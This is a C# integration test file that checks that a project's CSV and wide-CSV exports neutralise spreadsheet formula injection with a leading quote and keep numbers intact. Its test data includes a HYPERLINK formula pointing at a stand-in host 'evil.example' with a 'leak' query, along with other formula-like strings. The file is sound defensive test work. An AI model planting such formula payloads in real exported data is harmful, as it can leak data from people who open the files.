using System.Net;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;
using Raumnetz.IntegrationTests.Actors;
using Raumnetz.IntegrationTests.Infrastructure;
using static Raumnetz.IntegrationTests.Indicators.IndicatorApi;

namespace Raumnetz.IntegrationTests.Exports;

/// <summary>
/// Texts that a spreadsheet would run as formulas (OWASP's CSV injection) reach every CSV variant neutralised with a
/// leading single quote; numbers, negative ones included, stay numbers.
/// </summary>
public sealed class ExportFormulaInjectionTests(ApiFactory factory) : IClassFixture<ApiFactory>
{
    private const string EvilName = "=HYPERLINK(\"http://evil.example/?leak\",\"Klick\")";

    private async Task<(HttpClient Client, Guid Set, string Prefix)> SeedAsync()
    {
        var client = await factory.AdminAsync();
        var t = ActorApi.Token();
        var space = await CreateSpaceAsync(client, $"{t}-evil", EvilName, "district");
        var tab = await CreateSpaceAsync(client, $"{t}-at", "@SUM(1+1)", "district");
        var index = (await CreateIndicatorAsync(client, Count($"{t}-idx", new { kind = "index", aggregation = "mean", unit = "+1+1", decimals = 1 }))).GetProperty("id").GetGuid();
        await PutObservationOkAsync(client, new { indicatorId = index, spaceId = space, period = "2024", value = -3.5, source = "=1+2" });
        await PutObservationOkAsync(client, new { indicatorId = index, spaceId = tab, period = "2024", value = 2.5, source = "-2+3" });
        var set = await HttpAssert.OkAsync<JsonElement>(await client.PostAsJsonAsync(SetsUrl,
            new { name = "Injektion", indicatorIds = new[] { index } }), HttpStatusCode.Created);
        return (client, set.GetProperty("id").GetGuid(), t);
    }

    [Theory]
    [InlineData("format=csv", ",", "-3.5")]
    [InlineData("format=csv&decimal=comma", ";", "-3,5")]
    [InlineData("format=csv&delimiter=tab", "\t", "-3.5")]
    public async Task Long_csv_neutralises_formula_texts_and_keeps_numbers(string query, string delimiter, string value)
    {
        var (client, set, t) = await SeedAsync();
        var (_, body) = await ExportApi.GetAsync(client, $"{ExportsUrl}?indicatorSetId={set}&{query}");
        var rows = ExportCsvTests.Parse(body, delimiter);
        var evil = rows.Single(r => r["space_code"] == $"{t}-evil");
        Assert.Equal("'" + EvilName, evil["space_name"]);
        Assert.Equal("'+1+1", evil["unit"]);
        Assert.Equal("'=1+2", evil["source"]);
        Assert.Equal(value, evil["value"]);
        var at = rows.Single(r => r["space_code"] == $"{t}-at");
        Assert.Equal(("'@SUM(1+1)", "'-2+3"), (at["space_name"], at["source"]));
        Assert.DoesNotContain("\n=", Encoding.UTF8.GetString(body).Replace(delimiter + "=", "\n="));
    }

    [Fact]
    public async Task Wide_csv_neutralises_formula_texts_and_keeps_numbers()
    {
        var (client, set, t) = await SeedAsync();
        foreach (var (query, delimiter, value) in new[] { ("format=csv-wide", ",", "-3.5"), ("format=csv-wide&decimal=comma", ";", "-3,5") })
        {
            var rows = ExportCsvTests.Parse((await ExportApi.GetAsync(client, $"{ExportsUrl}?indicatorSetId={set}&{query}")).Body, delimiter);
            var evil = rows.Single(r => r["space_code"] == $"{t}-evil");
            Assert.Equal(("'" + EvilName, "'+1+1", value), (evil["space_name"], evil["unit"], evil["2024"]));
            Assert.Equal("'@SUM(1+1)", rows.Single(r => r["space_code"] == $"{t}-at")["space_name"]);
        }
    }
}
